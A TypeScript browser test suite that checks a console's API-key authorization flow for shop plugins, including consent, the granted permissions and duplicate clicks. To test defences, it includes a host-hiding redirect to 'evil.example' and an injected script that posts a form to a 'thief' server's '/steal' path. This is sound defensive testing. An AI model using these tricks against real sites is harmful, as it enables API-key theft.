// A shop's plugin asks for a key, as BTCPay Server's plugins do: it sends the user to the console, and gets the key in a form. The shop is a separate
// server that ignores any form it did not request.
import { createServer } from "node:http";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, inject, it } from "vitest";
import { type Listening, listen } from "../support/listen.ts";
import { EXPECTED_IN_CONSOLE, findings, proveMailbox, untilPage } from "./console-harness.ts";
import { openMerchant } from "./console-merchant.ts";
import { describeInBrowser, useBrowser } from "./harness.ts";

const RIGHTS = [
  "btcpay.store.canviewinvoices",
  "btcpay.store.cancreateinvoice",
  "btcpay.store.canviewstoresettings",
  "btcpay.store.canmodifyinvoices",
] as const;
const OPTIONAL = ["btcpay.store.cancreatenonapprovedpullpayments", "btcpay.store.webhooks.canmodifywebhooks"] as const;
/** The browser's message about a form that it blocks. */
const HELD_BACK = /form-action/;

interface PluginSite extends Listening {
  readonly forms: URLSearchParams[];
}

async function openSite(): Promise<PluginSite> {
  const forms: URLSearchParams[] = [];
  const server = createServer((request, response) => {
    if (request.method !== "POST") return void response.end("<title>Shop</title><h1>Settings</h1>");
    let body = "";
    request.on("data", (part) => {
      body += part;
    });
    request.on("end", () => {
      forms.push(new URLSearchParams(body));
      response.writeHead(303, { location: "/settings" }).end();
    });
  });
  return { ...(await listen(server)), forms };
}

describeInBrowser("a shop's plugin that asks for a key", () => {
  const browsing = useBrowser();
  let shop: PluginSite;
  let thief: PluginSite;
  beforeAll(async () => {
    shop = await openSite();
    thief = await openSite();
  });
  afterEach(() => {
    shop.forms.length = 0;
    thief.forms.length = 0;
  });
  afterAll(async () => {
    await shop?.close();
    await thief?.close();
  });

  const visit = () =>
    browsing.visit({
      reducedMotion: "reduce",
      alsoSaid: new RegExp(`${EXPECTED_IN_CONSOLE.source}|${HELD_BACK.source}|status of 409`),
      alsoAllowed: [shop.origin, thief.origin],
    });
  /** The request as WooCommerce's plugin writes it. */
  const question = () =>
    `/api-keys/authorize?${[...RIGHTS, ...OPTIONAL].map((right) => `permissions=${right}`).join("&")}` +
    `&applicationName=WooCommerce&strict=true&selectiveStores=true&redirect=${encodeURIComponent(`${shop.origin}/?callback`)}`;
  const give = (page: Page) => page.getByRole("button", { name: "Create key" });

  it("gets a key with exactly the granted permissions once a user has signed in, seen who will get it, and agreed", async () => {
    const { page } = await visit();
    const owner = await openMerchant(page, { isBare: true });
    const { email } = (await (await page.request.get("/api/v1/me")).json()) as { readonly email: string };
    await page.request.post("/api/v1/auth/sign-out", { headers: { origin: inject("testbed").baseUrl } });
    await page.goto(question());
    await proveMailbox(page, email);
    await page.getByText("An application that calls itself").waitFor();
    await page.getByText(shop.origin, { exact: true }).waitFor();
    await page.getByText(`It also asks for permissions that no application can have: ${OPTIONAL[0]}.`).waitFor();
    expect(await findings(page)).toEqual([]);
    await give(page).click();
    await page.getByRole("heading", { name: "Settings" }).waitFor();
    expect(page.url()).toBe(`${shop.origin}/settings`);
    const [form, ...more] = shop.forms;
    expect(more).toEqual([]);
    expect(form?.getAll("permissions[]")).toEqual([...RIGHTS, OPTIONAL[1]].map((right) => `${right}:${owner.id}`));
    const key = form?.get("apiKey") ?? "";
    expect(key).toMatch(/^ak[0-9A-Za-z]{38}$/);
    const path = `${inject("testbed").baseUrl}/api/v1/stores/${owner.id}`;
    const headers = { authorization: `token ${key}` };
    const statusOf = async (rest: string) => (await fetch(`${path}${rest}`, { headers })).status;
    expect([await statusOf("/invoices"), await statusOf("/webhooks"), await statusOf("/payment-methods")]).toEqual([
      200, 200, 200,
    ]);
  });

  it("gets no key if the user refuses, or if the redirect URL hides the real host", async () => {
    const { page } = await visit();
    await openMerchant(page, { isBare: true });
    await page.goto(question());
    await page.getByRole("link", { name: "Cancel" }).click();
    await untilPage(page, "Home");
    await page.goto(
      `/api-keys/authorize?permissions=${RIGHTS[0]}&redirect=${encodeURIComponent("https://shop.example@evil.example/")}`,
    );
    await page.getByText("The address that the key should go to is not a valid one.").waitFor();
    expect(await findings(page)).toEqual([]);
    expect(await give(page).count()).toBe(0);
    expect(shop.forms).toEqual([]);
  });

  it("gets only one key however often the user clicks, and the page can send the form to no other origin", async () => {
    const { page } = await visit();
    const owner = await openMerchant(page, { isBare: true });
    await page.goto(question());
    await give(page).waitFor();
    // The button does not work at once, because another page may have tricked the user into clicking.
    await expect.poll(() => give(page).isEnabled()).toBe(true);
    await page.evaluate(`(() => {
      const button = [...document.querySelectorAll("button")].find((each) => each.textContent === "Create key");
      button.click();
      button.click();
    })()`);
    await page.getByRole("heading", { name: "Settings" }).waitFor();
    await page.goBack();
    await give(page).waitFor();
    expect(page.url()).toContain("/api-keys/authorize");
    // Submits the form as an injected script would. This is the last step, because the driver waits for a navigation that the browser blocked.
    const heldBack = await page.evaluate<string>(`new Promise((tell) => {
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => tell(effectiveDirective));
      const form = document.createElement("form");
      form.method = "post";
      form.action = ${JSON.stringify(`${thief.origin}/steal`)};
      document.body.append(form);
      form.submit();
    })`);
    expect(heldBack).toBe("form-action");
    expect([shop.forms.length, thief.forms.length]).toEqual([1, 0]);
    const { data } = await owner.call<{ readonly data: readonly unknown[] }>("GET", "/api-keys");
    expect(data).toHaveLength(1);
  });
});
